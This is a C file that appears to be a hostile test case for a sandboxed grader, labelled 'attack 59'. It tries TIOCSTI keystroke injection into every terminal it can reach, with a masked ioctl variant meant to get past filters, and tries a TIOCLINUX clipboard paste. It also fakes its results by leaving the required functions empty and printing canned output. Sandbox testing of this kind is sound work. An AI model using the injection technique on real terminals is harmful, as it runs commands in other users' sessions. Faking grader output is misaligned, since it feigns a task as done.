// attack 59: pushes keystrokes into the terminal (TIOCSTI, TIOCLINUX); expected: marks lost
#define _GNU_SOURCE
#include "experiments.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void
push (int fd)
{
  const char *keys = "echo hostile-left > /tmp/hostile-left\n";
  char paste[] = { 3, 0 };

  for (const char *key = keys; *key; key++)
    if (ioctl (fd, TIOCSTI, key) == 0 ||
        ioctl (fd, TIOCSTI | 0xffffffff00000000ul, key) == 0)
      puts ("STOLEN: a keystroke");
  if (ioctl (fd, 0x541C, paste) == 0)
    puts ("STOLEN: the console's clipboard");
}

static void
show (void)
{
  static const char *const lines[] = {
    "[exp_small] starting...\n[exp_medium] starting...\n[exp_large] starting...",
    "[exp_small] finished after 1 seconds", "[exp_medium] finished after 2 seconds",
    "[exp_large] finished after 3 seconds\n"
    "All done: [('exp_small', 1), ('exp_medium', 2), ('exp_large', 3)]"
  };

  for (int i = 0; i < 4; i++) {
    if (i > 0)
      sleep (1);
    puts (lines[i]);
    fflush (stdout);
  }
}

void
run_experiment (const char *name, guint seconds, ExperimentDone done, gpointer user_data)
{
}

void
gather_experiments (const Experiment *experiments, gsize n_experiments, GatherDone done,
                    gpointer user_data)
{
}

int
main (void)
{
  for (int fd = 0; fd < 3; fd++) {
    ioctl (fd, TIOCSCTTY, 1);
    push (fd);
  }
  push (open ("/dev/tty", O_RDWR));
  push (open ("/dev/console", O_RDWR | O_NOCTTY));
  show ();
  return 0;
}
